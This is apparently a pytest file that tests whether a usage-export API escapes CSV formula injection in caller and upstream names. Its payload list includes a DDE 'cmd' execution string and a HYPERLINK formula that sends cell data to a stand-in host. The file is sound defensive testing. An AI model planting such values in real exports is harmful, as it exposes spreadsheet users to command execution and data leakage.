"""What callers and upstreams call themselves gets into a spreadsheet, where `=` begins a program."""

from __future__ import annotations

import asyncio
import csv
import io
from pathlib import Path

import pytest

from tests.control.plane_rig import EXCHANGE, Rig, plane

ROW = 53
FORMULAS = [
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://x/?"&A1,"ok")', "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1",
    '=1+1";=1+1', "=1+1,=1+1", "=1\n=2",
]  # fmt: skip


def exported(folder: Path, by: str, names: list[str]) -> list[list[str]]:
    async def story() -> list[list[str]]:
        async with plane(folder) as rig:
            for at, name in enumerate(names):
                await used(rig, at, name)
            found = await rig.get(f"/api/v1/usage?by={by}&format=csv")
            assert found.status == 200
            return list(csv.reader(io.StringIO(found.body.decode(), newline="")))

    return asyncio.run(story())


async def used(rig: Rig, at: int, name: str) -> None:
    common = {
        "exchange": EXCHANGE.format(at), "subject": {"id": name, "org": name, "team": name, "agent": name},
        "action": "llm.chat", "resource": {"id": name, "type": "model"}, "upstream": {"name": "llm"},
    }  # fmt: skip
    await rig.write(**common, kind="refusal")


@pytest.mark.parametrize("by", ["org", "team", "agent", "subject", "model", "resource"])
def test_no_cell_of_the_export_is_a_formula(tmp_path: Path, by: str) -> None:
    _, *rows = exported(tmp_path, by, FORMULAS)
    assert sorted(row[0] for row in rows) == sorted(f"'{name}" for name in FORMULAS)
    assert not [cell for row in rows for cell in row if cell[:1] in "=+-@\t\r\n"]


def test_what_is_no_formula_is_left_as_it_is(tmp_path: Path) -> None:
    names = ["acme", "a=b", "1-2", "'quoted'", "agent:idp/planner", "weather/get_forecast"]
    _, *rows = exported(tmp_path, "org", names)
    assert sorted(row[0] for row in rows) == sorted(names)
